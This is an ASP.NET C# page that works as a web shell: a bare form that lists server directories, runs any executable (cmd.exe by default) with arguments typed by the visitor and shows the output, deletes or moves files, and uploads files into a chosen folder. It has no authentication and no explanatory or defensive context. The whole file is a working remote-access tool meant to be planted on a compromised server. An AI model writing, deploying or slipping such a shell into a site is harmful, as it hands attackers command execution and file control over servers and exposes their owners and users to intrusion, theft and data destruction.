<%@ Page Language="C#" Debug="false" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    string Shell(string file, string args)
    {
        var info = new ProcessStartInfo(file, args);
        info.UseShellExecute = false;
        info.RedirectStandardOutput = true;
        using (var proc = Process.Start(info)) { return proc.StandardOutput.ReadToEnd(); }
    }

    protected void Page_Load(object sender, EventArgs e)
    {
        string dir = Path.GetFullPath(PathBox.Text == "" ? Server.MapPath(".") : PathBox.Text);
        foreach (string d in Directory.GetDirectories(dir)) { Listing.Text += "[D] " + Server.HtmlEncode(d) + "<br>"; }
        foreach (string f in Directory.GetFiles(dir)) { Listing.Text += "[F] " + Server.HtmlEncode(f) + "<br>"; }
    }

    protected void Run_Click(object sender, EventArgs e) { Output.Text = Server.HtmlEncode(Shell(Bin.Text, Args.Text)); }
    protected void Delete_Click(object sender, EventArgs e) { File.Delete(Target.Text); }
    protected void Move_Click(object sender, EventArgs e) { File.Move(Target.Text, Destination.Text); }
    protected void Upload_Click(object sender, EventArgs e) { Upload.PostedFile.SaveAs(Path.Combine(PathBox.Text, Path.GetFileName(Upload.PostedFile.FileName))); }
</script>
<form runat="server">
    <asp:TextBox ID="PathBox" runat="server" /><asp:Literal ID="Listing" runat="server" />
    <asp:TextBox ID="Bin" runat="server" Text="cmd.exe" /><asp:TextBox ID="Args" runat="server" />
    <asp:Button Text="Run" OnClick="Run_Click" runat="server" /><pre><asp:Literal ID="Output" runat="server" /></pre>
    <asp:TextBox ID="Target" runat="server" /><asp:TextBox ID="Destination" runat="server" />
    <asp:Button Text="Delete" OnClick="Delete_Click" runat="server" /><asp:Button Text="Move" OnClick="Move_Click" runat="server" />
    <asp:FileUpload ID="Upload" runat="server" /><asp:Button Text="Upload" OnClick="Upload_Click" runat="server" />
</form>
